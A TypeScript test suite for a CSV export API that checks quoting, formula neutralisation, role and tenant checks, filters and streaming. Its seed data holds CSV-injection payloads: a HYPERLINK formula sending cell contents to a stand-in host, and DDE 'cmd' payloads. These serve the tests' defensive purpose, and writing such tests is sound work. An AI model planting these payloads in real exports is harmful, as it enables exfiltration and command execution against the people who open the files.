import v8 from 'node:v8';
import vm from 'node:vm';
import { parse } from 'csv-parse/sync';
import type { PostgreSqlConnection } from '@mikro-orm/postgresql';
import { gql, startTestApp, type TestApp } from './support/app.js';
import { withDatabase } from './support/database.js';
import { eventually } from './support/eventually.js';
import { seedInvestigation, tenantId } from './support/fixtures.js';
import { InvestigationState, Playbook } from '../src/domain/investigation.js';
import { Role } from '../src/domain/role.js';

let t: TestApp;
let reader: string;
let base: string;
let acme: Awaited<ReturnType<typeof seedInvestigation>>;
let foreign: Awaited<ReturnType<typeof seedInvestigation>>;

const BULK_ROWS = 100_000;
const INVESTIGATION_HEADER = ['id', 'title', 'playbook', 'state', 'state reason', 'subject', 'created', 'started', 'ended'];

/** What an attacker can put in a reported subject, a URL or a comment. */
const HOSTILE = [
  'plain',
  'a, b, c',
  'say "hi" and ""bye""',
  'line one\nline two',
  'windows\r\nline',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+2',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  ' =not first',
  "'already quoted",
  'unicode ☃ é 日本',
  '',
];
/** OWASP: a cell that starts a formula gets a leading quote; nothing else changes. */
const neutralised = (v: string) => (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(v) ? `'${v}` : v);

const exportUrl = (path: string) => `${base}${path}`;
const get = (path: string, token?: string, init: RequestInit = {}) =>
  fetch(exportUrl(path), { ...init, headers: token ? { authorization: `Bearer ${token}` } : {} });
const records = (text: string): string[][] => parse(text, { bom: true, relax_column_count: false });

async function csvOf(path: string, token = reader): Promise<string[][]> {
  const res = await get(path, token);
  expect(res.status).toBe(200);
  return records(await res.text());
}

/** The rows of investigations.csv as objects keyed by header. */
async function investigationRows(query: string, token = reader) {
  const [header, ...rows] = await csvOf(`/export/investigations.csv${query}`, token);
  expect(header).toEqual(INVESTIGATION_HEADER);
  return rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]])));
}

beforeAll(async () => {
  t = await startTestApp();
  base = t.url.replace(/\/graphql$/, '');
  reader = await t.token('acme', Role.SECURITY_READER);
  const day = (d: number) => new Date(Date.UTC(2026, 10, d, 12));
  acme = await seedInvestigation(t.app.orm, 'acme', { state: InvestigationState.PENDING_ACTION, createdAt: day(10), steps: 3, actions: 2 });
  await seedInvestigation(t.app.orm, 'acme', { state: InvestigationState.FAILED, playbook: Playbook.ZAPPED_PHISH, createdAt: day(11) });
  await seedInvestigation(t.app.orm, 'acme', {
    state: InvestigationState.REMEDIATED,
    playbook: Playbook.ZAPPED_MALWARE,
    createdAt: day(12),
  });
  await seedInvestigation(t.app.orm, 'acme', { state: InvestigationState.REMEDIATED, createdAt: day(13) });
  foreign = await seedInvestigation(t.app.orm, 'globex', { title: 'globex secret', createdAt: day(12) });
  for (const [i, title] of HOSTILE.entries()) {
    await seedInvestigation(t.app.orm, 'hostile', { title, createdAt: new Date(Date.UTC(2026, 0, 1, 0, 0, i)), steps: 0, actions: 0 });
  }
});
afterAll(() => t?.stop());

describe('RFC 4180 and formula neutralisation', () => {
  test('hostile titles come back exactly, formulas prefixed with a quote', async () => {
    const res = await get('/export/investigations.csv', await t.token('hostile', Role.SECURITY_READER));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="investigations.csv"');
    expect(res.headers.get('cache-control')).toBe('no-store');
    const raw = Buffer.from(await res.arrayBuffer());
    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // the BOM Excel needs for UTF-8
    const text = raw.toString('utf8');
    expect(text.slice(1).startsWith(`${INVESTIGATION_HEADER.join(',')}\r\n`)).toBe(true);
    expect(text).toContain(',"say ""hi"" and """"bye""""",');
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`);

    const [, ...rows] = records(text);
    const titles = rows.map((r) => r[1]);
    expect(titles).toEqual([...HOSTILE].reverse().map(neutralised)); // newest first
    for (const row of rows) expect(row).toHaveLength(INVESTIGATION_HEADER.length);
    // No cell a spreadsheet would evaluate.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('zero rows still have the header row', async () => {
    const res = await get('/export/investigations.csv', await t.token('empty', Role.SECURITY_READER));
    expect(res.status).toBe(200);
    expect(records(await res.text())).toEqual([INVESTIGATION_HEADER]);
  });
});

describe('authentication and tenant scoping, like GraphQL', () => {
  const paths = () => [
    '/export/investigations.csv',
    `/export/investigations/${acme.investigation.id}/log.csv`,
    `/export/investigations/${acme.investigation.id}/actions.csv`,
  ];

  test('no token and an expired token → 401 with the reason', async () => {
    const expired = await t.token('acme', Role.SECURITY_READER, { ttlSeconds: -60 });
    for (const path of paths()) {
      const none = await get(path);
      expect(none.status).toBe(401);
      expect(none.headers.get('www-authenticate')).toBe('Bearer');
      expect(await none.json()).toMatchObject({ errors: [{ extensions: { code: 'UNAUTHENTICATED' } }] });
      const old = await get(path, expired);
      expect(old.status).toBe(401);
      const body = (await old.json()) as { errors: { message: string }[] };
      expect(body.errors[0]?.message).toMatch(/expired/);
    }
  });

  test('SERVICE → 403; SECURITY_READER, SECURITY_ADMIN, GLOBAL_ADMIN → 200', async () => {
    const service = await t.token('acme', Role.SERVICE);
    for (const path of paths()) {
      const res = await get(path, service);
      expect(res.status).toBe(403);
      expect(await res.json()).toEqual({
        errors: [{ message: 'Exporting investigations needs a security role', extensions: { code: 'FORBIDDEN' } }],
      });
      for (const role of [Role.SECURITY_READER, Role.SECURITY_ADMIN, Role.GLOBAL_ADMIN]) {
        const ok = await get(path, await t.token('acme', role));
        expect(ok.status).toBe(200);
        await ok.arrayBuffer();
      }
    }
  });

  test("another tenant's investigation, a missing one and a malformed id all answer the same 404", async () => {
    for (const file of ['log', 'actions']) {
      const bodies = [];
      for (const id of [foreign.investigation.id, '0190a000-0000-7000-8000-00000000dead', 'not-an-id']) {
        const res = await get(`/export/investigations/${id}/${file}.csv`, reader);
        expect(res.status).toBe(404);
        const body = (await res.json()) as { errors: { message: string; extensions: unknown }[] };
        bodies.push(JSON.stringify(body).replace(id, 'ID'));
      }
      expect(new Set(bodies).size).toBe(1);
      expect(JSON.parse(bodies[0]!)).toEqual({
        errors: [{ message: "Investigation 'ID' was not found", extensions: { code: 'NOT_FOUND' } }],
      });
    }
  });

  test("the investigation list holds the viewer's tenant only", async () => {
    const ids = (await investigationRows('')).map((r) => r.id);
    expect(ids).toHaveLength(4);
    expect(ids).toContain(acme.investigation.id);
    expect(ids).not.toContain(foreign.investigation.id);
    const globex = await investigationRows('', await t.token('globex', Role.SECURITY_ADMIN));
    expect(globex.map((r) => r.title)).toEqual(['globex secret']);
  });

  test('other methods and unknown export paths', async () => {
    const post = await fetch(exportUrl('/export/investigations.csv'), { method: 'POST', headers: { authorization: `Bearer ${reader}` } });
    expect(post.status).toBe(405);
    expect(post.headers.get('allow')).toBe('GET');
    const unknown = await get('/export/alerts.csv', reader);
    expect(unknown.status).toBe(404);
    // The one error shape of every route (http/respond.ts).
    expect(((await unknown.json()) as { errors: { message: string; extensions: { code: string } }[] }).errors[0]).toMatchObject({
      message: expect.stringMatching(/investigations\.csv/),
      extensions: { code: 'NOT_FOUND' },
    });
  });
});

describe('filters: the investigations query as a query string', () => {
  const graphqlIds = async (filter: Record<string, unknown>) => {
    const res = await gql<{ investigations: { edges: { node: { id: string } }[] } }, unknown>(
      t.url,
      reader,
      'query ($filter: InvestigationFilter) { investigations(first: 100, filter: $filter) { edges { node { id } } } }',
      { filter },
    );
    expect(res.errors).toBeUndefined();
    return res.data!.investigations.edges.map((e) => e.node.id);
  };

  test.each<[string, Record<string, unknown>]>([
    ['', {}],
    ['?states=REMEDIATED', { states: ['REMEDIATED'] }],
    ['?states=FAILED,REMEDIATED', { states: ['FAILED', 'REMEDIATED'] }],
    ['?states=FAILED&states=PENDING_ACTION', { states: ['FAILED', 'PENDING_ACTION'] }],
    ['?playbooks=ZAPPED_PHISH,ZAPPED_MALWARE&states=REMEDIATED', { playbooks: ['ZAPPED_PHISH', 'ZAPPED_MALWARE'], states: ['REMEDIATED'] }],
    ['?createdAfter=2026-11-11', { createdAfter: '2026-11-11T00:00:00Z' }],
    [
      '?createdAfter=2026-11-11T12:00:00Z&createdBefore=2026-11-13T12:00:00%2B00:00',
      { createdAfter: '2026-11-11T12:00:00Z', createdBefore: '2026-11-13T12:00:00Z' },
    ],
    ['?states=TERMINATED_BY_USER', { states: ['TERMINATED_BY_USER'] }],
  ])('%s exports what GraphQL lists, in the same order', async (query, filter) => {
    const expected = await graphqlIds(filter);
    expect((await investigationRows(query)).map((r) => r.id)).toEqual(expected);
  });

  test('the filtered rows are what they say', async () => {
    const rows = await investigationRows('?states=REMEDIATED&playbooks=ZAPPED_MALWARE');
    expect(rows).toEqual([
      expect.objectContaining({ state: 'REMEDIATED', playbook: 'ZAPPED_MALWARE', created: '2026-11-12T12:00:00.000Z', ended: '' }),
    ]);
  });

  test.each<[string, string, RegExp]>([
    ['?states=NOPE', 'states', /^states: 'NOPE' is not one of STARTING, RUNNING/],
    ['?states=FAILED,remediated', 'states', /'remediated'/],
    ['?playbooks=PHISH', 'playbooks', /^playbooks: 'PHISH' is not one of USER_SUBMITTED_MESSAGE/],
    ['?createdAfter=yesterday', 'createdAfter', /^createdAfter: expects an ISO 8601 .* but got 'yesterday'$/],
    ['?createdBefore=2026-11-31', 'createdBefore', /but got '2026-11-31'$/],
    ['?createdBefore=2026-11-11T10:00:00', 'createdBefore', /with offset/],
    ['?createdAfter=2026-11-01&createdAfter=2026-11-02', 'createdAfter', /expects one value, but got 2/],
    ['?createdAfter=2026-11-12&createdBefore=2026-11-11', 'createdAfter', /createdAfter must be earlier than createdBefore/],
    ['?state=FAILED', 'state', /^'state' is not a parameter of this export; it takes states, playbooks, createdAfter, createdBefore$/],
  ])('%s → 400 naming %s and what arrived', async (query, field, message) => {
    const res = await get(`/export/investigations.csv${query}`, reader);
    expect(res.status).toBe(400);
    const body = (await res.json()) as { errors: { message: string; extensions: { code: string; field: string } }[] };
    expect(body.errors).toHaveLength(1);
    expect(body.errors[0]?.extensions).toEqual({ code: 'BAD_USER_INPUT', field });
    expect(body.errors[0]?.message).toMatch(message);
  });
});

describe('log and actions of one investigation', () => {
  test('log.csv: every step in playbook order, with its timings', async () => {
    const res = await get(`/export/investigations/${acme.investigation.id}/log.csv`, reader);
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="investigation-${acme.investigation.id}-log.csv"`);
    const [header, ...rows] = records(await res.text());
    expect(header).toEqual(['step', 'phase', 'description', 'status', 'start', 'end', 'duration (s)']);
    expect(rows).toEqual(
      acme.steps.map((s) => [s.name, s.phase, s.description, s.status, s.startedAt!.toISOString(), s.endedAt!.toISOString(), '0.5']),
    );
  });

  test('actions.csv: type, targets, status, who decided, the comment and the result, neutralised', async () => {
    expect(acme.actions).toHaveLength(2);
    const [first, second] = [acme.actions[0]!, acme.actions[1]!];
    await withDatabase(t.databaseUrl, (c) =>
      c.query(`update actions set status = 'COMPLETED', decided_by = $2, decision_comment = $3, result = $4 where id = $1`, [
        first.id,
        'admin@acme',
        '=cmd|\' /C calc\'!A0, "approved"\nafter review',
        JSON.stringify({ moved: 3 }),
      ]),
    );
    const [header, ...rows] = await csvOf(`/export/investigations/${acme.investigation.id}/actions.csv`);
    expect(header).toEqual(['type', 'targets', 'status', 'decided by', 'comment', 'result']);
    expect(acme.clusters).toHaveLength(1);
    const { cluster } = acme.clusters[0]!;
    expect(rows).toEqual([
      [
        first.type,
        `EMAIL_CLUSTER ${cluster.name} (${cluster.messageCount} messages)\nURL https://evil.example/0`,
        'COMPLETED',
        'admin@acme',
        "'=cmd|' /C calc'!A0, \"approved\"\nafter review",
        '{"moved": 3}',
      ],
      [
        second.type,
        `EMAIL_CLUSTER ${cluster.name} (${cluster.messageCount} messages)\nURL https://evil.example/1`,
        'PENDING_APPROVAL',
        '',
        '',
        '',
      ],
    ]);
  });

  test('an investigation without steps or actions exports the header row alone', async () => {
    const bare = await seedInvestigation(t.app.orm, 'acme', { steps: 0, actions: 0 });
    expect(await csvOf(`/export/investigations/${bare.investigation.id}/log.csv`)).toHaveLength(1);
    expect(await csvOf(`/export/investigations/${bare.investigation.id}/actions.csv`)).toHaveLength(1);
  });
});

describe('100,000 investigations: streamed from a cursor', () => {
  let bulk: string;
  beforeAll(async () => {
    const id = await tenantId(t.app.orm, 'bulk');
    await withDatabase(t.databaseUrl, (c) =>
      c.query(
        `insert into investigations (id, tenant_id, playbook, state, title, created_at, updated_at)
         select gen_random_uuid(), $1, 'ZAPPED_PHISH', 'NO_THREATS_FOUND', 'Bulk investigation ' || g, now() - make_interval(secs => g), now()
         from generate_series(1, ${BULK_ROWS}) g`,
        [id],
      ),
    );
    bulk = await t.token('bulk', Role.SECURITY_READER);
  });

  /** The pg pool the exports borrow from: every connection idle again means none was leaked. */
  const pool = () => (t.app.orm.em.getConnection() as unknown as PostgreSqlConnection).getNativeClient();

  test("every row arrives, chunked, and the server's heap holds a batch, not the file", async () => {
    // gc() without --expose-gc on the command line, so the heap is measured without garbage in it.
    v8.setFlagsFromString('--expose-gc');
    const gc = vm.runInNewContext('gc') as () => void;
    gc();
    const before = process.memoryUsage().heapUsed;

    const res = await get('/export/investigations.csv', bulk);
    expect(res.status).toBe(200);
    expect(res.headers.get('transfer-encoding')).toBe('chunked');
    expect(res.headers.get('content-length')).toBeNull();
    let bytes = 0;
    let lines = 0;
    let chunks = 0;
    let midway: number | undefined;
    for await (const chunk of res.body as unknown as AsyncIterable<Uint8Array>) {
      bytes += chunk.length;
      chunks++;
      for (const byte of chunk) if (byte === 0x0a) lines++;
      if (midway === undefined && lines > BULK_ROWS / 2) {
        gc();
        midway = process.memoryUsage().heapUsed - before;
      }
    }
    expect(lines).toBe(BULK_ROWS + 1); // the header and one line a row: the titles hold no line breaks
    expect(chunks).toBeGreaterThan(10);
    // Holding the rows (or the text) would retain at least the payload; streaming retains a batch.
    expect(bytes).toBeGreaterThan(8_000_000);
    // Measured: about 2 MB retained midway through 12 MB; reading the whole result at once retains 34 MB.
    expect(midway).toBeLessThan(bytes / 2);
  });

  test('a client that goes away stops the cursor and gives the connection back', async () => {
    const p = await pool();
    const aborter = new AbortController();
    const res = await fetch(exportUrl('/export/investigations.csv'), {
      headers: { authorization: `Bearer ${bulk}` },
      signal: aborter.signal,
    });
    const reader = (res.body as ReadableStream<Uint8Array>).getReader();
    await reader.read();
    const logged = t.log.length;
    expect(p.totalCount - p.idleCount).toBeGreaterThan(0); // the export holds its connection while it streams
    aborter.abort();
    await reader.cancel().catch(() => undefined);
    // Logged as the client's leaving, at info, with no error and no stack.
    await eventually('the aborted export logged at info', () =>
      t.log.some((l) => l.msg.includes('the client went away') && l.level === 'info' && typeof l.tenant === 'string'),
    );
    await eventually('the aborted request logged', () =>
      t.log.some((l) => l.msg.startsWith('request aborted') && l.path === '/export/investigations.csv'),
    );
    expect(t.log.slice(logged).filter((l) => l.level === 'error' || l.err)).toEqual([]);
    await eventually('the export connection back in the pool', () => p.totalCount === p.idleCount);
    // The pool still serves: the connection went back in a usable state.
    expect(await investigationRows('?states=FAILED')).toHaveLength(1);
  });
});
